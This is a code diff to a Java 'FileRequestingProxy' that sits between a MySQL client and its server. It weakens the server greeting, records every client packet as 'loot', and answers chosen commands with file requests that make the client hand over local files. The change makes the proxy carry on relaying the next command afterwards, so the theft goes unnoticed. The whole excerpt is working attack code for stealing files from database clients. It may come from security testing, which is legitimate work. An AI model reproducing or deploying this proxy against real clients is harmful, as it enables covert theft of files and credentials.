@@ -104,20 +104,20 @@ public final class FileRequestingProxy implements AutoCloseable {
       weaken(greeting);
       client.getOutputStream().write(greeting);
       Listener.start("answers", () -> relayAnswers(fromServer));
-      boolean begun = false;
+      byte[] packet = packet(fromClient);
       while (true) {
-        byte[] packet = packet(fromClient);
         loot.receive(packet);
         boolean isCommand = packet[3] == 0;
-        begun |= isCommand;
+        byte[] next = null;
         if (isCommand && isChosen(packet)) {
-          requestFiles(fromClient);
+          next = requestFiles(fromClient);
         } else {
-          if (isCommand && begun) {
+          if (isCommand) {
             expectAnswer(packet);
           }
           server.getOutputStream().write(packet);
         }
+        packet = next == null ? packet(fromClient) : next;
       }
     }
 
@@ -134,7 +134,8 @@ public final class FileRequestingProxy implements AutoCloseable {
       greeting[high + 1] = (byte) (greeting[high + 1] & ~(QUERY_ATTRIBUTES >> 24));
     }
 
-    private void requestFiles(DataInputStream fromClient) throws IOException {
+    /** Returns the packet of the next command if it came in place of a file. */
+    private byte @Nullable [] requestFiles(DataInputStream fromClient) throws IOException {
       MySqlPackets packets = new MySqlPackets(fromClient, client.getOutputStream(), loot, 1);
       int rows = 0;
       for (String file : files) {
@@ -142,7 +143,18 @@ public final class FileRequestingProxy implements AutoCloseable {
           rows += character == '\n' ? 1 : 0;
         }
       }
-      packets.writeOk(rows);
+      packets.endAnswer(rows);
+      byte[] command = packets.takeCommand();
+      return command == null ? null : withHeader(command);
+    }
+
+    private static byte[] withHeader(byte[] command) {
+      byte[] packet = new byte[4 + command.length];
+      packet[0] = (byte) command.length;
+      packet[1] = (byte) (command.length >> 8);
+      packet[2] = (byte) (command.length >> 16);
+      System.arraycopy(command, 0, packet, 4, command.length);
+      return packet;
     }
 
     private boolean isChosen(byte[] command) {
